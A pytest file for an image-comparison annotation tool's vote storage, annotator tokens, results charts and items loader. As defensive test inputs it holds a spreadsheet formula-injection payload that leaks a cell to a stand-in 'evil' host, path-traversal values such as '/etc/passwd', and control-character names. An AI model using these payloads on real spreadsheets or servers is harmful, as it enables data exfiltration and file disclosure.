"""Vote stores (SQLite and a real PostgreSQL server: upsert, concurrency, connection loss, export),
annotator names and tokens, items loader, results rates and chart."""
import csv
import io
import json
import multiprocessing as mp
import os
import sqlite3
import threading

import pytest
from PIL import Image

from diffchat.errors import InvalidInput, StorageError
from diffchat.storage import (Annotators, PostgresVoteStore, VoteStore, clean_name, default_db, load_annotators,
                              load_items, open_store)
from diffchat.storage.annotators import parse_tokens
from diffchat.ui.results import pair_rates, plot_rates


@pytest.fixture(params=["sqlite", "postgresql"])
def db(request, tmp_path):
    """The `--db` value of a fresh, empty store of each kind."""
    if request.param == "sqlite":
        return str(tmp_path / "votes.sqlite")
    pg = request.getfixturevalue("postgres")
    pg.psql("DROP TABLE IF EXISTS votes")
    return pg.url


def test_vote_is_stored_with_all_fields(db):
    store = open_store(db)
    row = store.vote("item-1", left="sdxl", right="diffchat", vote="right", annotator="alice")
    [stored] = store.votes()
    assert stored == row
    assert (stored.method_a, stored.method_b) == ("diffchat", "sdxl")  # pair stored sorted
    assert stored.left_method == "sdxl" and stored.vote == "right" and stored.winner == "diffchat"
    assert stored.annotator == "alice" and stored.time.endswith("+00:00")
    if isinstance(store, PostgresVoteStore):
        assert "votes" in str(store) and store.url.split("@")[0].split(":")[-1] not in str(store)  # no password
    else:
        with sqlite3.connect(store.path) as con:
            assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_second_vote_changes_it_never_duplicates(db):
    store = open_store(db)
    store.vote("item-1", "a", "b", "left", "alice")
    store.vote("item-1", "b", "a", "tie", "alice")  # same pair shown the other way round
    store.vote("item-1", "a", "b", "left", "bob")
    assert store.count() == 2
    alice = store.votes("alice")
    assert len(alice) == 1 and alice[0].vote == "tie" and alice[0].winner is None
    assert store.voted_keys("bob") == {("item-1", "a", "b")}
    with pytest.raises(StorageError):  # the table itself refuses a second row
        store._run(lambda con: con.execute(
            "INSERT INTO votes (item, method_a, method_b, left_method, vote, winner, annotator, time)"
            " VALUES ('item-1', 'a', 'b', 'a', 'left', 'a', 'bob', 'now')"), write=True)
    assert store.count() == 2


@pytest.mark.parametrize("kwargs, message", [
    (dict(annotator="  "), "annotator name"),
    (dict(annotator="\x07\u202e"), "annotator name"),
    (dict(annotator="x" * 1_000_000), "too long"),
    (dict(annotator="y" * 41), "at most 40"),
    (dict(vote="maybe"), "Unknown vote"),
    (dict(right="a"), "two different methods"),
])
def test_bad_votes_are_refused(db, kwargs, message):
    store = open_store(db)
    args = dict(item="i", left="a", right="b", vote="left", annotator="alice") | kwargs
    with pytest.raises(InvalidInput, match=message):
        store.vote(**args)
    assert store.count() == 0


def test_names_are_cleaned():
    assert clean_name("  al\u202eice \x1b[31m\n bob\t") == "al ice [31m bob"
    assert clean_name("Ｂｏｂ") == "Bob"  # NFKC: one spelling per name
    assert clean_name("=HYPERLINK(1)") == "=HYPERLINK(1)"  # kept as typed; escaped in the CSV


def test_concurrent_threads_lose_no_vote(db):
    store = open_store(db)
    errors = []

    def annotate(name):
        try:
            for i in range(40):
                store.vote(f"item-{i}", "a", "b", ("left", "tie", "right")[i % 3], name)
        except Exception as e:  # pragma: no cover - reported below
            errors.append(e)

    threads = [threading.Thread(target=annotate, args=(f"t{k}",)) for k in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert store.count() == 8 * 40


def _client(db, name, n, go):
    store = open_store(db)
    go.wait()
    for i in range(n):
        store.vote(f"item-{i}", "a", "b", "left", name)
        store.vote(f"item-{i}", "b", "a", "right", name)  # changes the vote: must update, not add


def test_twenty_clients_thousand_votes(db):
    """20 annotator processes at once, 1,000 votes each cast and then changed: 0 lost, 0 duplicated."""
    open_store(db).count()  # the table exists before the clients race
    ctx = mp.get_context("fork")
    go = ctx.Event()
    procs = [ctx.Process(target=_client, args=(db, f"annotator-{k}", 50, go)) for k in range(20)]
    for p in procs:
        p.start()
    go.set()
    for p in procs:
        p.join(timeout=300)
    assert [p.exitcode for p in procs] == [0] * 20
    votes = open_store(db).votes()
    assert len(votes) == 1000
    assert len({(v.item, v.method_a, v.method_b, v.annotator) for v in votes}) == 1000
    assert {(v.annotator, v.item) for v in votes} == {(f"annotator-{k}", f"item-{i}") for k in range(20) for i in range(50)}
    assert all(v.left_method == "b" and v.vote == "right" and v.winner == "a" for v in votes)


def test_postgres_connection_loss_is_said_and_the_next_vote_reconnects(postgres):
    postgres.psql("DROP TABLE IF EXISTS votes")
    store = open_store(postgres.url)
    store.vote("1", "a", "b", "left", "alice")
    postgres.stop()
    try:
        with pytest.raises(StorageError, match="NOT saved"):
            store.vote("2", "a", "b", "left", "alice")
        with pytest.raises(StorageError, match="cannot be reached") as e:
            store.votes()
        assert postgres.password not in str(e.value) and "127.0.0.1" not in str(e.value)
    finally:
        postgres.start()
    store.vote("2", "a", "b", "right", "alice")  # a new connection, no restart of the app
    assert [(v.item, v.vote) for v in store.votes()] == [("1", "left"), ("2", "right")]
    assert postgres.psql("SELECT count(*) FROM votes") == "2"


def test_postgres_table_is_created_on_first_use(postgres):
    postgres.psql("DROP TABLE IF EXISTS votes")
    store = open_store(postgres.url)
    assert postgres.psql("SELECT count(*) FROM pg_tables WHERE tablename = 'votes'") == "0"  # nothing yet
    store.vote("1", "sd-turbo", "sd15", "tie", "alice")  # sorted by code point, like Python
    assert postgres.psql("SELECT method_a, method_b FROM votes") == "sd-turbo|sd15"


def test_unknown_database_scheme_is_refused(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for bad in ("mysql://u:p@host/db", "http://example.org/votes", "postgresq://x"):
        with pytest.raises(InvalidInput, match="Unknown vote database scheme"):
            open_store(bad)
    store = open_store("postgresql://nobody:pw@127.0.0.1:1/db")  # nothing happens until the first use
    assert isinstance(store, PostgresVoteStore) and "pw" not in str(store)
    assert list(tmp_path.iterdir()) == []  # no folder named 'postgresql:' (or anything else)
    assert isinstance(open_store(str(tmp_path / "v.sqlite")), VoteStore)
    assert open_store(f"sqlite:///{tmp_path}/w.sqlite").path == tmp_path / "w.sqlite"


def test_export_csv_and_jsonl(db, tmp_path):
    store = open_store(db)
    store.vote("x", "a", "b", "left", "alice")
    store.vote("y", "a", "b", "tie", "bob")
    store.vote("z", "a", "b", "right", '=HYPERLINK("http://evil/"&A1,"x")')
    store.vote("z", "a", "b", "right", "@SUM(1+1)")
    store.vote("z", "a", "b", "right", "-2+3")
    rows = list(csv.DictReader(open(store.export_csv(tmp_path / "v.csv"), newline="")))
    assert [(r["item"], r["vote"], r["winner"]) for r in rows[:2]] == [("x", "left", "a"), ("y", "tie", "")]
    assert [r["annotator"] for r in rows[2:]] == ["'=HYPERLINK(\"http://evil/\"&A1,\"x\")", "'@SUM(1+1)", "'-2+3"]
    lines = [json.loads(l) for l in open(store.export_jsonl(tmp_path / "v.jsonl"))]
    assert [(r["item"], r["winner"]) for r in lines[:2]] == [("x", "a"), ("y", None)]
    assert lines[2]["annotator"].startswith("=HYPERLINK")  # JSONL keeps the data as it is


def test_default_db(monkeypatch, tmp_path):
    monkeypatch.delenv("SPACE_ID", raising=False)
    monkeypatch.setenv("DATABASE_URL", "postgresql://u@h/db")
    monkeypatch.setenv("DIFFCHAT_DB", str(tmp_path / "x.sqlite"))
    assert default_db() == str(tmp_path / "x.sqlite")
    monkeypatch.delenv("DIFFCHAT_DB")
    assert default_db() == "postgresql://u@h/db"
    monkeypatch.delenv("DATABASE_URL")
    monkeypatch.setenv("DIFFCHAT_HOME", str(tmp_path / "home"))
    assert default_db() == str(tmp_path / "home" / "votes.sqlite")  # the data folder, not the working directory


# ---- annotator tokens --------------------------------------------------------------------------

def test_tokens_file_and_env(tmp_path):
    path = tmp_path / "tokens.txt"
    path.write_text("# campaign 1\n3fQ9x2LkVb7Tz1Wd  alice\n\nHq8nR4sY0cJm6PaE bob \u202esmith\n")
    admin = tmp_path / "admin"
    admin.write_text("admin-token-123456\n")
    a = load_annotators(str(path), str(admin), env={})
    assert a.required and a.results_locked
    assert a.name_for("3fQ9x2LkVb7Tz1Wd") == "alice" and a.name_for(" Hq8nR4sY0cJm6PaE ") == "bob smith"
    assert a.name_for("alice") is None and a.name_for("") is None and a.name_for("3fQ9x2LkVb7Tz1W") is None
    assert a.is_admin("admin-token-123456") and not a.is_admin("3fQ9x2LkVb7Tz1Wd") and not a.is_admin(None)
    env = {"DIFFCHAT_ANNOTATORS": "3fQ9x2LkVb7Tz1Wd alice; Hq8nR4sY0cJm6PaE bob",
           "DIFFCHAT_ADMIN_TOKEN": "admin-token-123456"}
    assert load_annotators(env=env).tokens == {"3fQ9x2LkVb7Tz1Wd": "alice", "Hq8nR4sY0cJm6PaE": "bob"}
    assert load_annotators(env={"DIFFCHAT_ANNOTATORS": str(path), "DIFFCHAT_ADMIN_TOKEN": "admin-token-123456"}) == a
    open_campaign = load_annotators(env={})
    assert not open_campaign.required and not open_campaign.results_locked and open_campaign.is_admin(None)


@pytest.mark.parametrize("text, message", [
    ("short alice", "at least 12"),
    ("3fQ9x2LkVb7Tz1Wd", "name after the token"),
    ("3fQ9x2LkVb7Tz1Wd alice\n3fQ9x2LkVb7Tz1Wd bob", "listed twice"),
    ("3fQ9x2LkVb7Tz1Wd " + "n" * 50, "at most 40"),
    ("# nothing", "no tokens"),
])
def test_bad_tokens_are_refused(text, message):
    with pytest.raises(InvalidInput, match=message):
        parse_tokens(text)


def test_tokens_need_a_distinct_admin_token(tmp_path):
    with pytest.raises(InvalidInput, match="need an admin token"):
        load_annotators(env={"DIFFCHAT_ANNOTATORS": "3fQ9x2LkVb7Tz1Wd alice"})
    with pytest.raises(InvalidInput, match="must differ"):
        load_annotators(env={"DIFFCHAT_ANNOTATORS": "3fQ9x2LkVb7Tz1Wd alice", "DIFFCHAT_ADMIN_TOKEN": "3fQ9x2LkVb7Tz1Wd"})
    with pytest.raises(InvalidInput, match="not found"):
        load_annotators(str(tmp_path / "none.txt"), env={})
    assert Annotators().name_for("anything") is None


def test_pair_rates_and_chart(tmp_path):
    store = VoteStore(tmp_path / "votes.sqlite")
    store.vote("1", "diffchat", "base", "left", "u")     # diffchat wins
    store.vote("2", "base", "diffchat", "right", "u")    # diffchat wins
    store.vote("3", "diffchat", "base", "tie", "u")
    store.vote("4", "diffchat", "base", "right", "u")    # base wins
    [r] = pair_rates(store.votes(), focus="diffchat")
    assert (r.method, r.other, r.n) == ("diffchat", "base", 4)
    assert (r.win, r.tie, r.lose) == (0.5, 0.25, 0.25)
    [flipped] = pair_rates(store.votes())
    assert (flipped.method, flipped.win, flipped.lose) == ("base", 0.25, 0.5)
    fig = plot_rates([r])
    bars = fig.axes[0].patches
    assert [round(b.get_width()) for b in bars] == [50, 25, 25]
    assert [round(b.get_x()) for b in bars] == [0, 50, 75]
    fig.savefig(tmp_path / "chart.png")
    assert plot_rates([]).axes  # empty chart says "No votes yet"


# ---- items loader ----------------------------------------------------------------------------

def write_items(folder, rows):
    folder.mkdir(parents=True, exist_ok=True)
    for rel in ("raw/0.png", "a/0.png", "b/0.png"):
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        Image.new("RGB", (8, 8)).save(folder / rel)
    (folder / "items.jsonl").write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    return folder


def item_row(**kw):
    return {"id": "0", "raw_image": "raw/0.png", "instruction": "make it red", "raw_prompt": "a car",
            "images": {"a": "a/0.png", "b": "b/0.png"}} | kw


def test_load_items_from_folder_and_file(tmp_path):
    folder = write_items(tmp_path / "set", [item_row(), item_row(id="1")])
    items = load_items(folder)
    assert [i.id for i in items] == ["0", "1"] and items[0].methods == ["a", "b"]
    assert items[0].images["a"] == (folder / "a/0.png").resolve()
    assert load_items(folder / "items.jsonl") == items


@pytest.mark.parametrize("row, message", [
    (item_row(images={"a": "../outside.png", "b": "b/0.png"}), "outside"),
    (item_row(raw_image="/etc/passwd"), "relative"),
    (item_row(images={"a": "a/0.png"}), "at least two"),
    (item_row(images={"a": "a/0.png", "b": "b/missing.png"}), "does not exist"),
    (item_row(instruction=""), "instruction"),
    ({"id": "0"}, "missing field"),
    (item_row(images={"a": "a/0.png", "b": "items.jsonl"}), "not an image"),
])
def test_load_items_is_strict(tmp_path, row, message):
    Image.new("RGB", (8, 8)).save(tmp_path / "outside.png")
    folder = write_items(tmp_path / "set", [row])
    with pytest.raises(InvalidInput, match=message):
        load_items(folder)


def test_load_items_reports_line_of_bad_json_and_duplicates(tmp_path):
    folder = write_items(tmp_path / "set", [item_row()])
    with open(folder / "items.jsonl", "a") as f:
        f.write("{not json\n")
    with pytest.raises(InvalidInput, match="line 2: not valid JSON"):
        load_items(folder)
    write_items(folder, [item_row(), item_row()])
    with pytest.raises(InvalidInput, match="duplicate id"):
        load_items(folder)
    with pytest.raises(InvalidInput, match="No items file"):
        load_items(tmp_path / "nowhere")
